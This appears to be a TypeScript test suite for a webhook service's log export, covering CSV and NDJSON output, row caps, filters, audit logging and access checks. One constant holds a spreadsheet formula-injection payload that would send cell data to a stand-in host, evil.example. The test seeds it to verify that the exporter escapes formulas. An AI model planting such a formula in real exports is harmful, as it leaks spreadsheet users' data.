import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvLine } from '#src/infra/lib/csv.ts';
import { ROWS_OF_FILE } from '#src/surfaces/dashboard/logs/export.ts';
import { signedInVisitor, type Visitor } from '#test/support/pages.ts';
import { addAttempts, addMessages, idsSince } from '#test/support/searched-log.ts';
import type { TestServer } from '#test/support/server.ts';
import { sharedServer } from '#test/support/shared-server.ts';

const HOUR_MS = 3_600_000;
const ROWS = 130;
const FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Open")';

describe('the export of a log', () => {
  let server: TestServer;
  let visitor: Visitor;
  let path: string;
  let owner: Parameters<typeof addMessages>[1];

  before(async () => {
    server = await sharedServer('web');
    visitor = await signedInVisitor(server);
    const { apps, endpoints, pool, subscriptions } = server.container;
    const app = await apps.create(visitor.accountId, { name: 'Acme' });
    const subscription = await subscriptions.create(app, { name: FORMULA });
    const endpoint = await endpoints.create(subscription, { url: 'https://example.com/', version: '1.0' });
    owner = { app, subscription, endpoint };
    path = `/apps/${app.id}/log_exports`;
    const ids = idsSince(HOUR_MS, ROWS);
    await addMessages(
      pool,
      owner,
      ids.map((id, at) => ({ id, data: '{}', eventId: `+${String(at)}` })),
    );
    const tries = idsSince(HOUR_MS - 1000, ROWS).map((id, at) => ({
      id,
      messageId: ids[at] ?? '',
      succeeded: at !== 7,
      statusCode: at === 7 ? 503 : 200,
      responseBody: null,
    }));
    await addAttempts(pool, owner, tries);
  });
  after(() => (server as TestServer | undefined)?.[Symbol.asyncDispose]());

  const fetched = async (query: string) => (await visitor.get(`${path}/${query}`)).text;
  const jsonLines = (text: string) =>
    text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);

  it('has every row that the filters let through, over many pages, and ends with their number', async () => {
    for (const list of ['webhook_attempts', 'deliveries', 'messages']) {
      const rows = jsonLines(await fetched(`${list}?format=ndjson`));
      assert.deepEqual(rows.at(-1), { type: 'end', rows: ROWS, is_complete: true }, list);
      assert.equal(new Set(rows.map(({ id }) => id)).size, ROWS + 1, list);
    }
    const failed = jsonLines(await fetched('webhook_attempts?format=ndjson&status_class=5xx'));
    assert.deepEqual(
      failed.map(({ status_code: code }) => code),
      [503, undefined],
    );
    const { text } = await visitor.get(`/apps/${owner.app.id}/webhook_attempts?status_class=5xx`);
    assert.ok(
      text.includes(`${path}/webhook_attempts?status_class=5xx&amp;format=csv`),
      'the page leads there',
    );
  });

  it('is CSV with a head, in which nothing is a formula', async () => {
    const lines = (await fetched('webhook_attempts?format=csv')).trim().split('\r\n');
    assert.equal(lines.length, ROWS + 1);
    assert.match(lines[0] ?? '', /^id,created_at,status_message,status_code,/);
    assert.ok(lines[1]?.includes(`"'=HYPERLINK(""http`), lines[1]);
    assert.match(await fetched('messages?format=csv'), /,'\+129,/);
    for (const begin of ['=', '+', '-', '@', '\t', '\r'])
      assert.match(csvLine([`${begin}1`]), /^"?'/, JSON.stringify(begin));
    assert.equal(csvLine(['https://x.example/;=1+1']), "https://x.example/;'=1+1\r\n");
    assert.equal(csvLine(['a "b", c', 1, null, true]), '"a ""b"", c",1,,true\r\n');
  });

  it('is not begun with filters that it does not know, or in another format', async () => {
    for (const query of ['messages?format=xml', 'messages', 'messages?format=csv&stat=failed'])
      assert.equal((await visitor.get(`${path}/${query}`)).status, 400, query);
    assert.equal((await visitor.get(`${path}/apps?format=csv`)).status, 404);
  });

  it('is told in the audit log, without what was searched for', async () => {
    await fetched('messages?format=csv&q=secret-word');
    const { rows } = await server.container.pool.query<{ details: object }>(
      `select details from audit_events where account_id = $1 and action = 'log.exported' order by id desc limit 1`,
      [visitor.accountId],
    );
    assert.deepEqual(rows, [{ details: { list: 'messages', format: 'csv', filters: ['q'] } }]);
  });

  it('is nobody else’s', async () => {
    const stranger = await signedInVisitor(server);
    assert.equal((await stranger.get(`${path}/messages?format=csv`)).status, 404);
  });

  it('is cut after so many rows, and says so', async () => {
    const { pool } = server.container;
    await pool.query(
      `insert into attempts (account_id, app_id, id, message_id, endpoint_id, subscription_id, event_type,
         attempt_number, succeeded, duration_ms, status_code)
       select account_id, app_id, (substr(id::text, 1, 24) || lpad(to_hex(n), 12, '0'))::uuid, message_id, endpoint_id,
         subscription_id, 'user.deleted', 1, true, 5, 200
       from attempts, generate_series(1, $3) n where account_id = $1 and app_id = $2 and not succeeded`,
      [owner.app.accountId, owner.app.id, ROWS_OF_FILE + 1],
    );
    const rows = jsonLines(await fetched('webhook_attempts?format=ndjson'));
    assert.deepEqual(rows.at(-1), { type: 'end', rows: ROWS_OF_FILE, is_complete: false });
    const lines = (await fetched('webhook_attempts?format=csv')).trim().split('\r\n');
    assert.equal(lines.length, ROWS_OF_FILE + 2);
    assert.match(lines.at(-1) ?? '', /Cut after 10,000 rows/);
  });
});
